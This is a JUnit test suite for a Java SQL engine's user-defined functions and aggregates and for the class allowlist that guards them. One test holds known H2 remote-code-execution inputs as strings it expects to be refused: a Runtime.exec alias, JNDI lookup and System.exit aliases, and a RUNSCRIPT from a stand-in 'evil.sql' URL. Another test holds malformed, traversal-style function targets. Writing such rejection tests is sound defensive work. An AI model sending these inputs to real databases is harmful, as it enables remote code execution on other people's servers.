package io.bstack.sql.routine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bstack.sql.Database;
import io.bstack.sql.Session;
import io.bstack.sql.exec.QueryResult;
import io.bstack.sql.function.FunctionClassAllowlist;
import io.bstack.sql.routine.fixture.Fns;
import io.bstack.sql.routine.fixture.Guarded;
import io.bstack.tx.TxOptions;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** CREATE FUNCTION / CREATE AGGREGATE end to end on a database file, with the allowlist. */
class UserFunctionsTest {
    private static final String FIXTURE = "io.bstack.sql.routine.fixture.";
    private static final String FNS = FIXTURE + "Fns.";

    @TempDir
    Path dir;
    Database db;
    Session s;

    @BeforeEach
    void open() throws SQLException {
        db = Database.open(dir.resolve("fn.bstack"), TxOptions.defaults());
        s = session(FIXTURE + "Fns," + FIXTURE + "LongSum," + FIXTURE + "Joined," + FIXTURE + "BadInit,"
                + FIXTURE + "NoDefaultConstructor," + FIXTURE + "Missing");
    }

    @AfterEach
    void close() throws SQLException {
        s.close();
        db.close();
    }

    private Session session(String allowed) throws SQLException {
        Session session = new Session(db);
        session.functionClasses(FunctionClassAllowlist.parse(allowed));
        return session;
    }

    private static List<List<Object>> rows(Session on, String sql) throws SQLException {
        List<List<Object>> out = new ArrayList<>();
        try (QueryResult r = on.query(sql)) {
            while (r.next()) {
                List<Object> row = new ArrayList<>();
                for (int i = 0; i < r.labels().size(); i++) {
                    row.add(r.get(i));
                }
                out.add(row);
            }
        }
        return out;
    }

    private List<List<Object>> rows(String sql) throws SQLException {
        return rows(s, sql);
    }

    private Object value(String sql) throws SQLException {
        return rows(sql).getFirst().getFirst();
    }

    private static List<Object> row(Object... values) {
        return Arrays.asList(values);
    }

    private static void fails(Session on, String sql, String state) {
        assertThatThrownBy(() -> {
            if (sql.startsWith("SELECT") || sql.startsWith("CALL")) {
                rows(on, sql);
            } else {
                on.execute(sql);
            }
        }).as(sql).isInstanceOf(SQLException.class)
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).as(e.getMessage()).isEqualTo(state));
    }

    private void fails(String sql, String state) {
        fails(s, sql, state);
    }

    @Test
    void scalarFunctionsMapJavaTypesAndOverloadByArgumentCount() throws SQLException {
        s.execute("CREATE FUNCTION twice FOR '" + FNS + "twice'");
        s.execute("CREATE FUNCTION greet DETERMINISTIC FOR '" + FNS + "greet'");
        s.execute("CREATE FUNCTION or_zero FOR '" + FNS + "orZero'");
        s.execute("CREATE FUNCTION reversed FOR '" + FNS + "reversed'");
        s.execute("CREATE FUNCTION next_day FOR '" + FNS + "nextDay'");
        s.execute("CREATE FUNCTION half FOR '" + FNS + "half'");
        s.execute("CREATE FUNCTION is_even FOR '" + FNS + "isEven'");
        s.execute("CREATE FUNCTION root FOR '" + FNS + "root'");
        assertThat(rows("SELECT twice(21), twice(1, 2), greet('ann'), or_zero(NULL), or_zero(5)"))
                .containsExactly(row(42, 6L, "hello, ann", 0, 5));
        assertThat(rows("SELECT twice(NULL), greet(NULL), is_even(4), is_even(3), root(16)"))
                .as("NULL for a primitive parameter gives NULL; a reference parameter gets null")
                .containsExactly(row(null, "hello, nobody", true, false, 4.0));
        assertThat((byte[]) value("SELECT reversed(X'010203')")).containsExactly(3, 2, 1);
        assertThat(value("SELECT next_day(DATE '2024-02-28')")).isEqualTo(LocalDate.of(2024, 2, 29));
        assertThat(value("SELECT half(5.0)")).isEqualTo(new BigDecimal("2.5"));
        assertThat(value("SELECT twice('7')")).as("arguments convert like CAST").isEqualTo(14);
        fails("SELECT twice('x')", "22018");
        fails("SELECT twice(1, 2, 3)", "42000");
        fails("SELECT twice()", "42000");
        s.execute("CREATE TABLE t (id INT PRIMARY KEY, v INT)");
        s.execute("INSERT INTO t VALUES (1, twice(5)), (2, 3)");
        s.execute("UPDATE t SET v = twice(v) WHERE twice(id) = 4");
        assertThat(rows("SELECT id, v FROM t WHERE twice(v) > 0 ORDER BY twice(id)")).containsExactly(row(1, 10), row(2, 6));
        assertThat(rows("SELECT twice(id), COUNT(*) FROM t GROUP BY twice(id) ORDER BY 1"))
                .containsExactly(row(2, 1L), row(4, 1L));
    }

    @Test
    void functionsPersistAcrossReopenAndAreListedInRoutines() throws SQLException {
        s.execute("CREATE FUNCTION twice DETERMINISTIC FOR '" + FNS + "twice'");
        s.execute("CREATE AGGREGATE long_sum FOR '" + FIXTURE + "LongSum'");
        s.close();
        db.close();
        db = Database.open(dir.resolve("fn.bstack"), TxOptions.defaults());
        s = session(FIXTURE + "*");
        assertThat(value("SELECT twice(4)")).isEqualTo(8);
        assertThat(rows("SELECT routine_schema, routine_name, data_type, is_aggregate, is_deterministic, min_arguments,"
                + " max_arguments, remarks FROM information_schema.routines WHERE routine_schema = 'PUBLIC'"
                + " ORDER BY routine_name")).containsExactly(
                row("PUBLIC", "LONG_SUM", "BIGINT", true, "NO", 1, 1, "user aggregate for '" + FIXTURE + "LongSum'"),
                row("PUBLIC", "TWICE", null, false, "YES", 1, 2, "user function for '" + FNS + "twice'"));
    }

    @Test
    void nondeterministicFunctionsAreNeverFoldedDeterministicOnesAre() throws SQLException {
        s.execute("CREATE TABLE t (id INT PRIMARY KEY)");
        s.execute("INSERT INTO t VALUES (1), (2), (3)");
        s.execute("CREATE FUNCTION counter FOR '" + FNS + "counter'");
        List<Object> counted = rows("SELECT counter() FROM t").stream().map(r -> r.get(0)).toList();
        assertThat(Set.copyOf(counted)).as("one call per row: %s", counted).hasSize(3);
        s.execute("CREATE FUNCTION twice_folded DETERMINISTIC FOR '" + FNS + "twice'");
        s.execute("CREATE FUNCTION twice_each FOR '" + FNS + "twice'");
        long before = Fns.TWICE_CALLS.get();
        assertThat(rows("SELECT twice_folded(21) FROM t")).containsExactly(row(42), row(42), row(42));
        assertThat(Fns.TWICE_CALLS.get() - before).as("a deterministic call with constant arguments is folded").isEqualTo(1);
        before = Fns.TWICE_CALLS.get();
        assertThat(rows("SELECT twice_each(21) FROM t")).hasSize(3);
        assertThat(Fns.TWICE_CALLS.get() - before).as("a nondeterministic one runs for every row").isEqualTo(3);
    }

    @Test
    void aggregatesRunPerGroupSkipNullsAndTakeDistinct() throws SQLException {
        s.execute("CREATE AGGREGATE long_sum FOR '" + FIXTURE + "LongSum'");
        s.execute("CREATE AGGREGATE joined FOR '" + FIXTURE + "Joined'");
        s.execute("CREATE TABLE t (g VARCHAR(5), n INT, w VARCHAR(10))");
        s.execute("INSERT INTO t VALUES ('a', 1, 'x'), ('a', 2, 'y'), ('a', 2, NULL), ('b', NULL, 'z'), ('b', 5, 'z')");
        assertThat(rows("SELECT g, long_sum(n), long_sum(DISTINCT n), joined(w), joined(DISTINCT w) FROM t"
                + " GROUP BY g ORDER BY g")).containsExactly(row("a", 5L, 3L, "x+y", "x+y"), row("b", 5L, 5L, "z+z", "z"));
        assertThat(rows("SELECT long_sum(n) FROM t WHERE n > 100")).as("over no rows").containsExactly(row((Object) null));
        assertThat(rows("SELECT g FROM t GROUP BY g HAVING long_sum(n) > 4 ORDER BY long_sum(n) DESC, g"))
                .containsExactly(row("a"), row("b"));
        fails("SELECT long_sum(n, n) FROM t", "42000");
        fails("SELECT long_sum(*) FROM t", "42000");
        s.execute("INSERT INTO t VALUES ('c', 1, 'fail')");
        assertThatThrownBy(() -> rows("SELECT joined(w) FROM t")).isInstanceOf(SQLException.class)
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).isEqualTo("38000"))
                .hasRootCauseInstanceOf(IllegalArgumentException.class);
        fails("CREATE AGGREGATE bad FOR '" + FIXTURE + "NoDefaultConstructor'", "42883");
        fails("CREATE AGGREGATE bad FOR '" + FNS.substring(0, FNS.length() - 1) + "'", "42883");
        fails("DROP FUNCTION long_sum", "42809");
        s.execute("DROP AGGREGATE long_sum");
        fails("SELECT long_sum(n) FROM t", "42883");
    }

    @Test
    void badTargetsAndNamesAreRefusedWithTheirSqlStates() throws SQLException {
        fails("CREATE FUNCTION f FOR '" + FIXTURE + "Missing.run'", "42883");
        fails("CREATE FUNCTION f FOR '" + FNS + "missing'", "42883");
        fails("CREATE FUNCTION f FOR '" + FNS + "instanceMethod'", "42883");
        fails("CREATE FUNCTION f FOR '" + FNS + "hidden'", "42883");
        fails("CREATE FUNCTION f FOR '" + FNS + "same'", "42725");
        fails("CREATE FUNCTION f FOR '" + FNS + "nothing'", "0A000");
        fails("CREATE FUNCTION f FOR '" + FNS + "describe'", "0A000");
        for (String odd : List.of("Fns", "", ".run", FNS + "run()", FNS + "a b", "../Fns.run", FNS + "x;y",
                "[L" + FIXTURE + "Fns;.run", FIXTURE + "Fns..run", FNS + "\u0000run")) {
            fails("CREATE FUNCTION f FOR '" + odd + "'", "42602");
        }
        fails("CREATE FUNCTION nullif FOR '" + FNS + "greet'", "42723");
        fails("CREATE FUNCTION count FOR '" + FNS + "greet'", "42723");
        fails("CREATE FUNCTION coalesce FOR '" + FNS + "greet'", "42723");
        s.execute("CREATE FUNCTION greet FOR '" + FNS + "greet'");
        fails("CREATE FUNCTION greet FOR '" + FNS + "twice'", "42723");
        s.execute("CREATE FUNCTION IF NOT EXISTS greet FOR '" + FNS + "twice'");
        assertThat(value("SELECT greet('x')")).as("IF NOT EXISTS kept the first").isEqualTo("hello, x");
        fails("DROP FUNCTION nope", "42883");
        s.execute("DROP FUNCTION IF EXISTS nope");
        fails("DROP AGGREGATE greet", "42809");
        s.execute("DROP FUNCTION greet");
        fails("SELECT greet('x')", "42883");
    }

    @Test
    void whatTheUsersCodeThrowsIsAnExternalRoutineExceptionWithItsCause() throws SQLException {
        s.execute("CREATE FUNCTION boom FOR '" + FNS + "boom'");
        s.execute("CREATE FUNCTION refuse FOR '" + FNS + "refuse'");
        s.execute("CREATE FUNCTION bad_init FOR '" + FIXTURE + "BadInit.run'");
        assertThatThrownBy(() -> rows("SELECT boom('now')")).isInstanceOf(SQLException.class)
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).isEqualTo("38000"))
                .hasMessageContaining("boom: now").hasCauseInstanceOf(IllegalStateException.class);
        fails("SELECT refuse('x')", "22023");
        fails("SELECT bad_init(1)", "38000");
        s.execute("CREATE TABLE t (id INT)");
        fails("INSERT INTO t VALUES (1), (CAST(boom('x') AS INT))", "38000");
        assertThat(rows("SELECT COUNT(*) FROM t")).as("the failed statement left nothing").containsExactly(row(0L));
    }

    @Test
    void createAndDropRollBackWithTheTransaction() throws SQLException {
        s.execute("BEGIN");
        s.execute("CREATE FUNCTION twice FOR '" + FNS + "twice'");
        assertThat(value("SELECT twice(2)")).isEqualTo(4);
        s.execute("SAVEPOINT sp");
        s.execute("DROP FUNCTION twice");
        fails("SELECT twice(2)", "42883");
        s.execute("ROLLBACK TO SAVEPOINT sp");
        assertThat(value("SELECT twice(3)")).isEqualTo(6);
        try (Session other = session(FIXTURE + "Fns")) {
            fails(other, "SELECT twice(2)", "42883"); // not committed: another snapshot does not see it
        }
        s.execute("ROLLBACK");
        fails("SELECT twice(2)", "42883");
    }

    @Test
    void aClassOutsideTheAllowlistIsNeverLoaded() throws Exception {
        Set<String> requested = ConcurrentHashMap.newKeySet();
        ClassLoader parent = Thread.currentThread().getContextClassLoader();
        ClassLoader recording = new ClassLoader(parent) {
            @Override
            protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
                requested.add(name);
                return super.loadClass(name, resolve);
            }
        };
        String guarded = FIXTURE + "Guarded";
        Thread.currentThread().setContextClassLoader(recording);
        try {
            fails("CREATE FUNCTION g FOR '" + guarded + ".run'", "42501");
            fails("CREATE AGGREGATE g FOR '" + guarded + "'", "42501");
            try (Session none = new Session(db)) {
                fails(none, "CREATE FUNCTION twice FOR '" + FNS + "twice'", "42501");
            }
            s.execute("CREATE FUNCTION twice FOR '" + FNS + "twice'");
        } finally {
            Thread.currentThread().setContextClassLoader(parent);
        }
        assertThat(requested).as("only allowed classes are asked for").contains(FIXTURE + "Fns").doesNotContain(guarded);
        assertThat(System.getProperty(Guarded.FLAG)).as("the guarded class was never initialised").isNull();
    }

    @Test
    void aStoredFunctionWhoseClassThisConnectionDoesNotAllowFailsWhenCalledNotAtOpen() throws SQLException {
        s.execute("CREATE FUNCTION twice FOR '" + FNS + "twice'");
        s.execute("CREATE TABLE t (id INT)");
        s.execute("INSERT INTO t VALUES (1)");
        s.close();
        db.close();
        db = Database.open(dir.resolve("fn.bstack"), TxOptions.defaults());
        s = new Session(db); // no allowlist
        assertThat(rows("SELECT id FROM t")).containsExactly(row(1));
        assertThat(rows("SELECT routine_name FROM information_schema.routines WHERE routine_schema = 'PUBLIC'"))
                .containsExactly(row("TWICE"));
        fails("SELECT twice(id) FROM t", "42501");
        fails("INSERT INTO t VALUES (twice(2))", "42501");
        s.execute("DROP FUNCTION twice"); // dropping needs no class
    }

    @Test
    void theH2RemoteCodeExecutionPatternsFailCleanly() throws SQLException {
        fails("CREATE ALIAS exec AS $$ String exec(String c) throws Exception { Runtime.getRuntime().exec(c); return c; } $$",
                "42000");
        fails("CREATE ALIAS exec FOR 'java.lang.Runtime.getRuntime'", "42000");
        fails("CREATE FUNCTION exec AS 'String exec(String c) { return c; }'", "42000");
        fails("CREATE FUNCTION exit FOR 'java.lang.System.exit'", "42501");
        fails("CREATE FUNCTION lookup FOR 'javax.naming.InitialContext.doLookup'", "42501");
        fails("RUNSCRIPT FROM 'http://example.com/evil.sql'", "42000");
        fails("CREATE TRIGGER t BEFORE INSERT ON x CALL 'com.example.T'", "42000");
        assertThat(rows("SELECT COUNT(*) FROM information_schema.routines WHERE routine_schema = 'PUBLIC'"))
                .containsExactly(row(0L));
    }

    @Test
    void viewsChecksAndSnapshotsSeeFunctionsAsTheirTransactionDoes() throws SQLException {
        s.execute("CREATE FUNCTION twice DETERMINISTIC FOR '" + FNS + "twice'");
        s.execute("CREATE TABLE t (id INT PRIMARY KEY, v INT, CHECK (twice(v) < 100))");
        s.execute("INSERT INTO t VALUES (1, 10)");
        fails("INSERT INTO t VALUES (2, 60)", "23513");
        s.execute("CREATE VIEW doubled AS SELECT id, twice(v) AS w FROM t");
        assertThat(rows("SELECT id, w FROM doubled")).containsExactly(row(1, 20));
        try (Session reader = session(FIXTURE + "Fns")) {
            reader.autoCommit(false);
            assertThat(rows(reader, "SELECT twice(1)")).containsExactly(row(2)); // its snapshot starts here
            s.execute("CREATE FUNCTION greet FOR '" + FNS + "greet'");
            fails(reader, "SELECT greet('x')", "42883");
            reader.commit();
            assertThat(rows(reader, "SELECT greet('x')")).as("a later snapshot sees it").containsExactly(row("hello, x"));
        }
        try (Session none = new Session(db)) {
            fails(none, "SELECT w FROM doubled", "42501");
            fails(none, "INSERT INTO t VALUES (3, 1)", "42501");
        }
    }
}
